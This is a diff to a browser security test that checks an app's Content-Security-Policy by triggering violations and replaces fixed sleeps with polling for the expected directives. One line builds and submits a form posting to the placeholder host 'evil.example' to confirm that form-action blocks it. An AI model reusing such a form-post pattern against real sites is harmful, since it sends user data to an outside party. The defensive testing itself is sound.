@@ -37,9 +37,29 @@ test('the Content-Security-Policy of every answer refuses what is not of the app
 test('the policy is in force: no inline code, no eval, no connection, nothing from elsewhere', async ({ launch }) => {
   const app = await launch();
   const page = await app.panel();
-  const violated = await page.evaluate(async () => {
+  const refused = [
+    'base-uri',
+    'connect-src',
+    'form-action',
+    'frame-src',
+    'img-src',
+    'object-src',
+    'script-src',
+    'script-src-attr',
+    'script-src-elem',
+    'style-src-attr',
+    'style-src-elem',
+    'worker-src',
+  ];
+  const violated = await page.evaluate(async (all) => {
     const seen: string[] = [];
     document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
+    /** Until all of these have been refused, or half a minute has shown that they are not. */
+    const refusedAre = async (directives: readonly string[]) => {
+      const end = performance.now() + 30_000;
+      while (performance.now() < end && !directives.every((one) => seen.includes(one)))
+        await new Promise((resolve) => void setTimeout(resolve, 10));
+    };
     const add = (name: string, values: object) =>
       document.body.appendChild(Object.assign(document.createElement(name), values));
     const outcome = { ran: false, evaluated: false, styled: '' };
@@ -69,7 +89,8 @@ test('the policy is in force: no inline code, no eval, no connection, nothing fr
       // As above.
     }
     // Until here the test's own call may evaluate text, whatever the policy says.
-    await new Promise((resolve) => void setTimeout(resolve, 200));
+    const later = ['form-action', 'script-src'];
+    await refusedAre(all.filter((one) => !later.includes(one)));
     const make = [Reflect.get(window, 'eval'), Reflect.get(window, 'Function')] as ((code: string) => unknown)[];
     for (const evaluate of make) {
       try {
@@ -81,29 +102,16 @@ test('the policy is in force: no inline code, no eval, no connection, nothing fr
     }
     const form = add('form', { action: 'https://evil.example/form', method: 'post' }) as HTMLFormElement;
     form.submit();
-    await new Promise((resolve) => void setTimeout(resolve, 50));
+    await refusedAre(all);
     outcome.styled = getComputedStyle(document.body).outlineStyle;
     return { ...outcome, base: document.baseURI === location.href, seen: [...new Set(seen)].toSorted() };
-  });
+  }, refused);
   expect(violated).toEqual({
     ran: false,
     evaluated: false,
     styled: 'none',
     base: true,
-    seen: [
-      'base-uri',
-      'connect-src',
-      'form-action',
-      'frame-src',
-      'img-src',
-      'object-src',
-      'script-src',
-      'script-src-attr',
-      'script-src-elem',
-      'style-src-attr',
-      'style-src-elem',
-      'worker-src',
-    ],
+    seen: refused,
   });
 });
 
